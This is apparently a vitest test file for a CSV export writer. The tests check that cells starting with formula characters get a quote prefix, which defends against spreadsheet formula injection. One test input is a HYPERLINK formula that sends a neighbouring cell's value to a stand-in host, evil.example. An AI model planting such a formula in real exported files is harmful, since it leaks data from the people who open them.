import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, spreadsheetCsv } from '../../src/reports/csv';

const parse = (csv: string) => Papa.parse<string[]>(csv.slice(1).trimEnd(), { delimiter: ';', newline: '\r\n' }).data;

describe('spreadsheetCsv: the one writer of CSV files people open', () => {
  it.each([
    '=1+1',
    '+33 6 12 34 56 78',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '＝1+1',
    '=HYPERLINK("http://evil.example/?x="&C2,"Cliquez")\nsuite',
  ])('prefixes %j with a quote', (value) => {
    expect(neutraliseCell(value)).toBe(`'${value}`);
    expect(parse(spreadsheetCsv(['Nom'], [[value]], 'fr'))[1]).toEqual([`'${value}`]);
  });

  it('leaves ordinary text, inner formula characters and numbers alone', () => {
    const csv = spreadsheetCsv(
      ['Nom', 'Score', 'Écart'],
      [
        ['Hélène Lefèvre-Martin', 85.7, -3],
        ['Jean = Pierre', 0, 12.5],
        ['', null, undefined],
      ],
      'fr',
    );
    expect(parse(csv)).toEqual([
      ['Nom', 'Score', 'Écart'],
      ['Hélène Lefèvre-Martin', '85,7', '-3'],
      ['Jean = Pierre', '0', '12,5'],
      ['', '', ''],
    ]);
    expect(parse(spreadsheetCsv(['n'], [[85.7]], 'en'))[1]).toEqual(['85.7']);
  });

  it('writes the French Excel dialect: BOM, `;`, CRLF, a final CRLF', () => {
    const csv = spreadsheetCsv(['a', 'b'], [['x;y', 'z']], 'fr');
    expect(csv).toBe('\uFEFFa;b\r\n"x;y";z\r\n');
  });
});
